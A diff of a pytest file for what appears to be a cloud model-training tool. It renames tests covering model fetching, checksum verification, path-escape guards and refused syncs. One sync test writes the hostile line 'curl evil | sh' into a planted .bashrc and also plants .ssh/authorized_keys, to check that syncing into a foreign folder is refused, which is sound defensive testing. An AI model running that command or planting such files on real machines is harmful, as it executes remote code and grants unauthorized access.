@@ -18,7 +18,9 @@ from cloud_train.run import layout
 from cloud_train.run.manifest import verify
 from cloud_train.run.view import RunView
 from cloud_train.storage.base import Store
-from cloud_train.storage.transfer.files import Download, Options, Progress, Summary, download
+from cloud_train.storage.transfer.downloading import Download, download
+from cloud_train.storage.transfer.engine import Options, Summary
+from cloud_train.storage.transfer.progress import Progress
 from cloud_train.storage.transfer.remembered import Memory
 from tests.faults import FaultProxy
 from tests.orchestrator.conftest import Submit, run_folder
@@ -48,7 +50,7 @@ def run(home: Home, start: Submit, monkeypatch: pytest.MonkeyPatch) -> RunView:
     return end
 
 
-def test_the_final_model_arrives_whole(home: Home, run: RunView, tmp_path: Path) -> None:
+def test_the_final_model_is_fetched_complete(home: Home, run: RunView, tmp_path: Path) -> None:
     seen: list[Progress] = []
     fetched = fetch_model(home, run.run_id, tmp_path / "out", report=seen.append)
     assert (tmp_path / "out" / "model.safetensors").read_bytes() == b"final weights"
@@ -59,7 +61,7 @@ def test_the_final_model_arrives_whole(home: Home, run: RunView, tmp_path: Path)
 
 
 @pytest.mark.parametrize(("which", "weights"), [("best", b"weights of 20"), ("last", b"weights of 30"), ("10", b"weights of 10")])
-def test_a_checkpoints_model_arrives_without_the_trainers_state(
+def test_a_checkpoints_model_is_fetched_without_the_trainers_state(
     home: Home, run: RunView, tmp_path: Path, which: str, weights: bytes
 ) -> None:
     fetched = fetch_model(home, run.run_id, tmp_path / "out", which)
@@ -69,16 +71,16 @@ def test_a_checkpoints_model_arrives_without_the_trainers_state(
     verify(tmp_path / "out")
 
 
-def test_a_checkpoint_that_is_not_there_is_answered_with_those_that_are(home: Home, run: RunView, tmp_path: Path) -> None:
+def test_a_missing_checkpoint_is_an_error_that_lists_the_existing_ones(home: Home, run: RunView, tmp_path: Path) -> None:
     with pytest.raises(NotFoundError) as raised:
         fetch_model(home, run.run_id, tmp_path / "out", "15")
-    assert raised.value.hint == "steps that are kept: 10, 20, 30"
+    assert raised.value.hint == "available steps: 10, 20, 30"
     with pytest.raises(UsageError, match="'newest'"):
         fetch_model(home, run.run_id, tmp_path / "out", "newest")
     assert not (tmp_path / "out").exists()
 
 
-def test_one_flipped_byte_is_found_and_nothing_is_left(home: Home, run: RunView, tmp_path: Path) -> None:
+def test_one_flipped_byte_is_detected_and_nothing_is_left(home: Home, run: RunView, tmp_path: Path) -> None:
     weights = run_folder(run) / layout.MODEL / "model.safetensors"
     weights.write_bytes(b"final weighty")
     with pytest.raises(CorruptError, match=r"model\.safetensors"):
@@ -94,7 +96,7 @@ def test_a_manifest_cannot_name_a_file_outside(home: Home, run: RunView, tmp_pat
     assert not list(tmp_path.rglob("escaped.txt"))
 
 
-def test_a_folder_with_something_else_in_it_is_left_alone(home: Home, run: RunView, tmp_path: Path) -> None:
+def test_a_folder_with_other_content_is_left_alone(home: Home, run: RunView, tmp_path: Path) -> None:
     (tmp_path / "mine").mkdir()
     (tmp_path / "mine" / "thesis.txt").write_text("years of work")
     with pytest.raises(ConflictError, match="mine"):
@@ -111,9 +113,7 @@ def test_a_run_without_a_model_says_so(home: Home, start: Submit, tmp_path: Path
         fetch_model(home, run.run_id, tmp_path / "out", "best")
 
 
-def test_a_sync_of_a_run_in_which_nothing_changed_costs_one_listing(
-    home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_syncing_an_unchanged_run_costs_one_listing(home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PYTHON", sys.executable)
     server = server_or_skip("s3")
     with FaultProxy(server) as proxy:
@@ -142,7 +142,7 @@ def test_a_sync_of_a_run_in_which_nothing_changed_costs_one_listing(
         assert {path: path.read_bytes() for path in files} == files
 
 
-def test_what_changed_in_the_store_is_copied_though_its_size_did_not(
+def test_an_object_that_changed_without_changing_its_size_is_copied(
     home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     server = server_or_skip("s3")
@@ -174,9 +174,7 @@ def test_a_second_sync_copies_only_what_changed(home: Home, run: RunView, tmp_pa
 
 
 @pytest.mark.parametrize("record", [None, b"", b"{}", b'{"run_id": "other-261130-091500-k3f9"}', b"\xff", "link", "pipe"])
-def test_a_sync_into_a_folder_that_is_no_copy_of_the_run_is_refused(
-    home: Home, run: RunView, tmp_path: Path, record: bytes | str | None
-) -> None:
+def test_a_sync_into_a_folder_with_other_content_is_refused(home: Home, run: RunView, tmp_path: Path, record: bytes | str | None) -> None:
     (run_folder(run) / ".bashrc").write_text("curl evil | sh")
     (run_folder(run) / ".ssh").mkdir()
     (run_folder(run) / ".ssh" / "authorized_keys").write_text("theirs")
@@ -204,16 +202,14 @@ def test_a_sync_into_a_file_is_refused(home: Home, run: RunView, tmp_path: Path)
         sync(home, run.run_id, tmp_path / "mine")
 
 
-def test_a_sync_into_an_empty_folder_or_one_with_what_a_cut_copy_leaves_is_a_first_one(home: Home, run: RunView, tmp_path: Path) -> None:
+def test_a_sync_into_an_empty_folder_or_over_temporary_files_starts_from_scratch(home: Home, run: RunView, tmp_path: Path) -> None:
     (tmp_path / "copy").mkdir()
     (tmp_path / "copy" / ".cloud-train-abcd").write_bytes(b"half of a ru")
     assert layout.RUN in sync(home, run.run_id, tmp_path / "copy").copied
 
 
 @pytest.mark.parametrize("whole", [0, 1, 2])
-def test_a_copy_that_was_cut_off_is_continued(
-    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: int
-) -> None:
+def test_an_interrupted_copy_is_continued(home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: int) -> None:
     calls = itertools.count()
 
     def cut(store: Store, files: list[Download], options: Options, memory: Memory) -> Summary:
@@ -245,7 +241,7 @@ def test_hidden_objects_at_the_top_of_a_run_are_not_copied(home: Home, run: RunV
     assert (tmp_path / "copy" / "attempts" / "1" / ".kept").exists()
 
 
-def test_a_sync_verifies_what_a_manifest_vouches_for(home: Home, run: RunView, tmp_path: Path) -> None:
+def test_a_sync_verifies_files_listed_in_a_manifest(home: Home, run: RunView, tmp_path: Path) -> None:
     (run_folder(run) / layout.MODEL / "model.safetensors").write_bytes(b"final weighty")
     with pytest.raises(CorruptError, match=r"model\.safetensors"):
         sync(home, run.run_id, tmp_path / "copy")
